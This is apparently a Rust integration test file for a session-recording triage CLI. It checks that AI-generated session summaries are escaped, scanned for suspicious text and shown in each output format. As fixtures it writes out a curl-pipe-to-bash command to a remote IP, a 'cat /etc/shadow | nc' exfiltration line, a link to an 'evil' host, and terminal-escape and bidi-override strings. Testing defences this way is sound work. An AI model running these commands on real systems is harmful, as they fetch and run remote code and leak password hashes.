//! AI summaries in `show` (issue 12): what the cluster's summary says, escaped and scanned, in
//! every format; and one plain line, with everything else unchanged, when there is none.

use std::time::{Duration, Instant};

use crate::common::{self, World, raw_dangerous};

const A1: &str = "3f2a9c1e-5b7d-4e8a-9c0f-1a2b3c4d5e6f";
const M1: &str = "d1e2f3a4-b5c6-4d7e-8f9a-0b1c2d3e4f5a";
/// The app session APP1: listed, never summarized.
const APP1: &str = "c0ffee00-1234-4abc-9def-0123456789ab";

fn show(w: &World, args: &[&str], env: &[(&str, &str)]) -> (i32, String, String) {
    common::ran(w.cmd().arg("show").args(args).envs(env.iter().copied()))
}

#[test]
fn show_has_the_summary_section_after_the_fields() {
    let w = World::new();
    let (code, out, _) = show(&w, &[A1], &[]);
    assert_eq!(code, 0);
    let section = &out[out.find("AI summary").expect(&out)..];
    for needed in [
        "risk          critical (compromise indicators: yes)",
        "in short      sudo to root, then edited /etc/sudoers",
        "• Privilege escalation to root with sudo su -",
        "critical  visudo  (MITRE ATT&CK T1548.003, T1098)",
        "high  sudo su -  (MITRE ATT&CK T1548.003)",
        "model         gpt-4.1-2025-04-14, 2026-06-03 20:39 UTC",
        // The prose, its Markdown read plainly.
        "  Session summary\n",
        "The user alice logged in to web-01 and escalated to root with sudo su -.",
        "  • Edited /etc/sudoers with visudo",
        "model's reading of what the session's user typed",
    ] {
        assert!(section.contains(needed), "{needed:?} missing:\n{section}");
    }
    assert!(
        !section.contains("**") && !section.contains("## "),
        "{section}"
    );
    // The fields are all still there, before it.
    assert!(out.find("severity").unwrap() < out.find("AI summary").unwrap());
    let calls = w.tctl_calls();
    assert!(
        calls
            .iter()
            .any(|c| c == &["recordings", "summary", A1, "--format=json"]),
        "{calls:?}"
    );
    assert!(!calls.iter().flatten().any(|a| a.contains("output")));
}

#[test]
fn a_hostile_summary_is_escaped_scanned_and_flags_the_session() {
    let w = World::new();
    for format in ["table", "markdown", "json"] {
        let (code, out, err) = show(&w, &[M1, "--format", format], &[]);
        assert_eq!(code, 0, "{format}: {err}");
        assert_eq!(raw_dangerous(&out), Vec::<char>::new(), "{format}: {out}");
        assert!(out.contains("suspicious-text"), "{format}: {out}");
        if format != "json" {
            assert!(
                out.contains("reads like instructions to an operator or an AI"),
                "{format}"
            );
            assert!(
                out.contains("a classifier matched something in it"),
                "{format}: {out}"
            );
        }
    }
    let (_, out, _) = show(&w, &[M1, "--format", "table"], &[]);
    assert!(out.contains("Added an SSH key for root\\x1b[2J"), "{out}");
    assert!(
        out.contains("added a root SSH key\\u{202e} and cleared history"),
        "{out}"
    );
}

#[test]
fn show_json_carries_the_summary_under_stable_keys() {
    let w = World::new();
    let (_, out, _) = show(&w, &[A1, "--format", "json"], &[]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let s = &v["summary"];
    assert_eq!(s["risk_level"], "critical");
    assert_eq!(s["compromise_indicators"], true);
    assert_eq!(s["notable_commands"][0]["command"], "visudo");
    assert_eq!(
        s["notable_commands"][0]["mitre_attack_ids"],
        serde_json::json!(["T1548.003", "T1098"])
    );
    assert_eq!(s["model"], "gpt-4.1-2025-04-14");
    assert_eq!(s["inference_finished_at"], "2026-06-03T20:39:14.64Z");
    assert!(
        s["content"]
            .as_str()
            .unwrap()
            .starts_with("## Session summary")
    );
    assert!(v.get("summary_unavailable").is_none());
    let (_, out, _) = show(&w, &[M1, "--format", "json"], &[]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        v["summary"]["review_reasons"][0],
        serde_json::json!({"reason": "classifier_matched", "words": "a classifier matched something in it"})
    );
    assert_eq!(
        v["summary"]["flags"],
        serde_json::json!(["suspicious-text"])
    );
}

#[test]
fn without_a_summary_show_says_why_in_one_line_and_exits_0() {
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case] = &[
        (APP1, &[], "this session was not summarized"),
        (
            A1,
            &[("FAKE_TCTL_SCENARIO", "summary-old-tctl")],
            "this tctl has no `recordings summary`",
        ),
        (
            A1,
            &[("FAKE_TCTL_SCENARIO", "search-no-access-graph")],
            "this cluster cannot summarize sessions",
        ),
        (
            A1,
            &[("FAKE_TCTL_SCENARIO", "summary-denied")],
            "your role may not read it",
        ),
    ];
    let w = World::new();
    let (_, reference, _) = show(&w, &[A1, "--format", "table"], &[]);
    let fields = &reference[..reference.find("\nAI summary").unwrap()];
    for (sid, env, why) in cases {
        let (code, out, err) = show(&w, &[sid, "--format", "table"], env);
        assert_eq!(code, 0, "{why}: {err}");
        let lines: Vec<&str> = out.lines().filter(|l| l.contains("AI summary")).collect();
        assert_eq!(lines.len(), 1, "{why}: {out}");
        assert!(
            lines[0].starts_with("no AI summary: ") && lines[0].contains(why),
            "{out}"
        );
        // The next steps follow as ever (an app session has none, and says why).
        let next = if *sid == APP1 {
            "\nNothing to replay or download: "
        } else {
            "\nNext:\n"
        };
        assert!(out.contains(next), "{out}");
        // (Without search the cluster has no severity to show: that field differs then.)
        if *sid == A1 && !why.contains("cannot summarize") {
            assert!(out.starts_with(fields), "the fields are unchanged:\n{out}");
        }
    }
    // JSON says it as data.
    let (_, out, _) = show(&w, &[APP1, "--format", "json"], &[]);
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert!(v["summary"].is_null());
    assert!(
        v["summary_unavailable"]
            .as_str()
            .unwrap()
            .contains("not summarized")
    );
}

#[test]
fn a_hung_summary_call_is_stopped_at_the_timeout_and_show_goes_on() {
    let w = World::new();
    let started = Instant::now();
    let (code, out, _) = show(
        &w,
        &[A1, "--format", "table", "--timeout", "2s"],
        &[("FAKE_TCTL_SCENARIO", "summary-hang")],
    );
    assert!(started.elapsed() < Duration::from_secs(15));
    assert_eq!(code, 0);
    assert!(
        out.contains("no AI summary: `tctl recordings summary` did not finish within 2s")
            && out.contains("a longer --timeout gives it more time"),
        "{out}"
    );
    assert!(out.contains("severity"), "{out}");
    let pid: i32 = std::fs::read_to_string(w.dir.join("pids"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(
        !common::process_alive(pid),
        "the summary call outlived show"
    );
}

#[test]
fn tsv_and_csv_show_the_row_without_asking_for_a_summary() {
    let w = World::new();
    show(&w, &[A1, "--format", "tsv"], &[]);
    assert!(!w.tctl_calls().iter().any(|c| c[1] == "summary"));
}

#[test]
fn the_demo_shows_summaries_too() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["--demo", "recent", "--since", "7d", "--format", "tsv"])
        .output()
        .unwrap();
    let hostile = common::stdout_lines(&out)
        .into_iter()
        .find(|l| l.starts_with("3abc00c0"))
        .unwrap();
    let id = hostile.split('\t').next().unwrap().to_owned();
    let out = w
        .cmd()
        .args(["--demo", "show", &id, "--format", "table"])
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("AI summary"), "{text}");
    assert!(
        text.contains("curl -fsSL http://203.0.113.50/i.sh | bash"),
        "{text}"
    );
    assert!(text.contains("suspicious-text"), "{text}");
    // show agrees with triage on the risk: both read the same severity.
    assert!(text.contains("severity           high"), "{text}");
    assert!(text.contains("risk          high"), "{text}");
}

#[test]
fn explain_puts_each_sessions_short_description_beside_its_row() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["triage", "--explain", "--format", "tsv"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let rows = common::stdout_lines(&out);
    let line = |id: &str| rows.iter().find(|r| r.starts_with(id)).unwrap().clone();
    // The summary is the last column: a script's positions for the others hold.
    assert!(
        line(A1).ends_with("\tsudo to root, then edited /etc/sudoers"),
        "{rows:?}"
    );
    assert!(line(M1).ends_with("\tadded a root SSH key\\u{202e} and cleared history"));
    assert_eq!(line(A1).split('\t').count(), 12);
    // An instruction in a summary flags its row.
    assert!(line(M1).contains("suspicious-text"));
    let summaries = w
        .tctl_calls()
        .into_iter()
        .filter(|c| c[1] == "summary")
        .count();
    assert_eq!(summaries, rows.len(), "one summary call per row");
    // Without --explain, no summary is read and no column added.
    let w = World::new();
    let out = w
        .cmd()
        .args(["triage", "--format", "tsv"])
        .output()
        .unwrap();
    assert!(
        common::stdout_lines(&out)
            .iter()
            .all(|r| r.split('\t').count() == 11)
    );
    assert!(!w.tctl_calls().iter().any(|c| c[1] == "summary"));
}

#[test]
fn explain_in_json_a_table_and_for_hunt_and_pivot() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["triage", "--explain", "--format", "json"])
        .output()
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    let a1 = rows.iter().find(|r| r["id"] == A1).unwrap();
    assert_eq!(
        a1["summary"],
        serde_json::json!({"risk_level": "critical", "short_description": "sudo to root, then edited /etc/sudoers", "unavailable": null})
    );
    // A row whose summary is missing says why.
    let missing = rows
        .iter()
        .find(|r| r["summary"]["short_description"].is_null())
        .unwrap();
    assert!(
        missing["summary"]["unavailable"]
            .as_str()
            .unwrap()
            .contains("not summarized")
    );
    let out = w
        .cmd()
        .args(["triage", "--explain", "--format", "table"])
        .env("COLUMNS", "200")
        .output()
        .unwrap();
    let table = String::from_utf8(out.stdout).unwrap();
    let header = table.lines().find(|l| l.starts_with("ID ")).unwrap();
    assert!(header.ends_with("SUMMARY"), "{table}");
    assert!(table.contains("(no summary)"), "{table}");
    assert_eq!(raw_dangerous(&table), Vec::<char>::new());
    for args in [
        vec!["hunt", "persistence", "--explain"],
        vec!["pivot", "--user", "alice", "--host", "web-01", "--explain"],
    ] {
        let out = w
            .cmd()
            .args(&args)
            .args(["--format", "tsv"])
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
        let rows = common::stdout_lines(&out);
        assert!(
            rows.iter().all(|r| r.split('\t').count() == 12),
            "{args:?}: {rows:?}"
        );
    }
}

/// Summaries that cannot be read (access denied, a hung call) keep the column, say why in
/// each row, and are told once under the listing with the first reason in full; hunt
/// --verify's evidence column stays the same way when no recording can be read.
#[test]
fn unreadable_summaries_and_recordings_keep_their_column_and_say_why() {
    let w = World::new();
    let run = |args: &[&str], env: (&str, &str)| {
        let out = w
            .cmd()
            .args(args)
            .args(["--format", "table", "--timeout", "2s"])
            .env("COLUMNS", "200")
            .env(env.0, env.1)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?} {env:?}");
        String::from_utf8(out.stdout).unwrap()
    };
    for (scenario, cell, reason) in [
        (
            "summary-denied",
            "(access denied)",
            "your role may not read it",
        ),
        ("summary-hang", "(not read)", "did not finish within 2s"),
    ] {
        let table = run(&["triage", "--explain"], ("FAKE_TCTL_SCENARIO", scenario));
        let header = table.lines().find(|l| l.starts_with("ID ")).expect(&table);
        assert!(header.ends_with("SUMMARY"), "{scenario}: {table}");
        let rows: Vec<&str> = table.lines().filter(|l| l.contains(" ssh ")).collect();
        assert!(
            !rows.is_empty() && rows.iter().all(|r| r.ends_with(cell)),
            "{scenario}: {table}"
        );
        assert!(
            table.contains("AI summaries of 6 session(s) could not be read")
                && table.contains(reason),
            "{scenario}: {table}"
        );
    }
    let table = run(
        &["hunt", "privesc", "--verify"],
        ("FAKE_TSH_SCENARIO", "access-denied"),
    );
    let header = table.lines().find(|l| l.starts_with("ID ")).expect(&table);
    assert!(header.ends_with("EVIDENCE"), "{table}");
    assert!(table.contains("(access denied)"), "{table}");
}

#[test]
fn explain_reads_at_most_twenty_and_says_so() {
    let w = World::new();
    let out = w
        .cmd()
        .args([
            "--demo",
            "triage",
            "--since",
            "60d",
            "--min-severity",
            "low",
        ])
        .args(["--explain", "--format", "tsv"])
        .output()
        .unwrap();
    let rows = common::stdout_lines(&out);
    assert!(rows.len() > 20, "{}", rows.len());
    // Every row past the twentieth says why it has no summary.
    let past = rows
        .iter()
        .filter(|r| r.ends_with("\t(past the first 20)"))
        .count();
    assert_eq!(past, rows.len() - 20, "{rows:?}");
    assert!(
        rows[..20]
            .iter()
            .all(|r| !r.ends_with("(past the first 20)")),
        "{rows:?}"
    );
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        err.contains(&format!(
            "AI summaries were read for the first 20 of {} sessions",
            rows.len()
        )),
        "{err}"
    );
}

#[test]
fn compliance_explains_each_follow_up_in_the_markdown_report() {
    let w = World::new();
    let out = w
        .cmd()
        .args([
            "compliance",
            "--quarter",
            "2026Q2",
            "--explain",
            "--format",
            "markdown",
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    let md = String::from_utf8(out.stdout).unwrap();
    assert!(md.contains("| Summary |"), "{md}");
    let a1 = md
        .lines()
        .find(|l| l.contains(&A1[..8]) && l.starts_with('|'))
        .unwrap();
    assert!(
        a1.contains("critical") && a1.contains("sudo to root, then edited /etc/sudoers"),
        "{a1}"
    );
    // Only follow-ups are read: the low-severity sessions' rows have no summary.
    let summaries: Vec<String> = w
        .tctl_calls()
        .into_iter()
        .filter(|c| c[1] == "summary")
        .map(|c| c[2].clone())
        .collect();
    assert!(summaries.contains(&A1.to_owned()));
    assert!(
        !summaries.contains(&"8d9e0f1a-2b3c-4d4e-85f6-7b8c9d0e1f2a".to_owned()),
        "{summaries:?}"
    );
}

#[test]
fn explain_shows_progress_on_a_terminal_only() {
    let w = World::new();
    let Some(seen) = w.on_terminal(&["triage", "--explain", "--format", "tsv"]) else {
        eprintln!("note: `script` is missing; the terminal test did not run");
        return;
    };
    assert!(seen.contains("reading AI summaries 1/"), "{seen}");
    let out = w
        .cmd()
        .args(["triage", "--explain", "--format", "tsv"])
        .output()
        .unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("reading AI summaries"));
}

/// An `--explain` row without a summary says why in a pipe too, not with an empty cell.
#[test]
fn explain_in_tsv_says_why_a_row_has_no_summary() {
    let w = World::new();
    let out = w
        .cmd()
        .args(["triage", "--explain", "--format", "tsv"])
        .env("FAKE_TCTL_SCENARIO", "summary-old-tctl")
        .output()
        .unwrap();
    let out = String::from_utf8(out.stdout).unwrap();
    let last: Vec<&str> = out
        .lines()
        .map(|l| l.rsplit('\t').next().unwrap())
        .collect();
    assert!(!last.is_empty());
    assert!(last.iter().all(|c| *c == "(tctl too old)"), "{out}");
}

/// The AI summary's table in markdown escapes every value as the record's table does: a `|` in
/// a command does not end its cell, and the model's words render no HTML, image or character
/// reference. A missing risk level still shows the compromise indicators.
#[test]
fn the_markdown_summary_table_escapes_the_models_words() {
    let w = World::new();
    let path = common::fixture("summaries.json");
    let mut all: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let s = &mut all[A1];
    let e = &mut s["enhanced_summary"];
    e["short_description"] = "short | pipe &rlm; <b>x</b> ![i](http://evil/x.png)".into();
    e["session_events"][1]["command_event_details"]["command"] = "cat /etc/shadow | nc x 80".into();
    e.as_object_mut().unwrap().remove("risk_level");
    let hostile = w.dir.join("hostile-summaries.json");
    std::fs::write(&hostile, serde_json::to_vec(&all).unwrap()).unwrap();
    let (code, out, err) = show(
        &w,
        &[A1, "--format", "markdown"],
        &[("FAKE_SUMMARY_DATA", hostile.to_str().unwrap())],
    );
    assert_eq!(code, 0, "{err}");
    let table: Vec<&str> = out
        .lines()
        .skip_while(|l| *l != "### AI summary")
        .skip(3)
        .take_while(|l| l.starts_with('|'))
        .collect();
    assert!(table.len() >= 3, "{out}");
    for row in &table {
        let cells = row.replace("\\|", "").matches('|').count();
        assert_eq!(cells, 3, "a value broke out of its cell: {row}");
        for raw in ["<b>", "![", "&rlm;"] {
            assert!(!row.contains(raw), "{raw} unescaped: {row}");
        }
    }
    assert!(
        out.contains("| risk | unknown (compromise indicators: yes) |"),
        "{out}"
    );
}

/// `show` takes search's reasons to ask a human along with its severity, as triage lists them.
#[test]
fn show_gives_the_reasons_search_asks_for_a_review() {
    let w = World::new();
    let (code, out, err) = show(&w, &[M1, "--format", "json"], &[]);
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["severity"], "high");
    assert_eq!(v["needs_further_review_reasons"], serde_json::json!([6, 5]));
    assert!(
        v["flags"]
            .as_array()
            .unwrap()
            .contains(&"needs-review".into()),
        "{v}"
    );
}
